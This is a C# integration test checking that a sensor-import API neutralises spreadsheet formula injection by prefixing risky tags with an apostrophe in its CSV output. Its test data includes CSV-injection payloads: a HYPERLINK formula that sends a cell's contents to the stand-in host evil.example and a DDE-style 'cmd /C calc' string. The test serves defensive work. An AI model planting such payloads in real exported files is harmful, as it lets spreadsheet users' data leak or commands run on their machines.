using System.Net;
using System.Net.Http.Json;
using System.Text;
using Microsoft.VisualBasic.FileIO;

namespace Sensors360.IntegrationTests;

/// <summary>The keys file (the CSV answer of an import) opened in a spreadsheet: no tag in it runs as a formula.</summary>
[Collection(SensorsAppCollection.Name)]
public sealed class KeysFileTests(SensorsAppFixture fixture)
{
    readonly DistributedApplication _app = fixture.App;

    static List<string[]> ParseCsv(string text)
    {
        using var parser = new TextFieldParser(new StringReader(text)) { HasFieldsEnclosedInQuotes = true, TrimWhiteSpace = false };
        parser.SetDelimiters(",");
        var rows = new List<string[]>();
        while (!parser.EndOfData)
        {
            rows.Add(parser.ReadFields()!);
        }
        return rows;
    }

    [Fact]
    public async Task Tags_that_a_spreadsheet_would_run_as_formulas_come_out_of_the_keys_file_with_a_leading_apostrophe_and_are_stored_as_sent()
    {
        var unique = Guid.NewGuid().ToString("N")[..12];
        string[] formulas =
        [
            $"=HYPERLINK(\"http://evil.example/{unique}?k=\"&C2,\"open\")",
            $"@SUM(1+1)*cmd|' /C calc'!A0 {unique}",
            $"+1+{unique}",
            $"-1+2-{unique}",
        ];
        var plain = $"plain-{unique}";
        var csv = new StringBuilder("tag\n");
        foreach (var tag in formulas.Append(plain))
        {
            csv.Append('"').Append(tag.Replace("\"", "\"\"", StringComparison.Ordinal)).Append("\"\n");
        }
        using var operatorHttp = Gateway.WithBearer(_app, (await Gateway.CreateApiTokenAsync(_app, "Operator")).Token);

        using var response = await operatorHttp.PostAsync("/api/sensors/import", new StringContent(csv.ToString(), Encoding.UTF8, "text/csv"));
        var answer = await response.Content.ReadAsStringAsync();

        Assert.True(response.StatusCode == HttpStatusCode.Created, answer);
        var rows = ParseCsv(answer);
        Assert.Equal(["id", "tag", "key"], rows[0]);
        var written = rows.Skip(1).ToList();
        Assert.Equal(formulas.Select(tag => "'" + tag).Append(plain), written.Select(row => row[1]));
        Assert.All(written, row =>
        {
            // Numbers and keys are left as they are: only a cell that would start a formula gets the apostrophe.
            Assert.Matches("^[0-9]+$", row[0]);
            Assert.StartsWith("s360", row[2], StringComparison.Ordinal);
        });

        // The apostrophe is the file's, not the sensor's: the registry keeps each tag byte for byte.
        foreach (var (row, tag) in written.Zip(formulas.Append(plain)))
        {
            var sensor = await operatorHttp.GetFromJsonAsync<System.Text.Json.JsonElement>($"/api/sensors/{row[0]}");
            Assert.Equal(tag, sensor.GetProperty("tag").GetString());
        }
    }
}
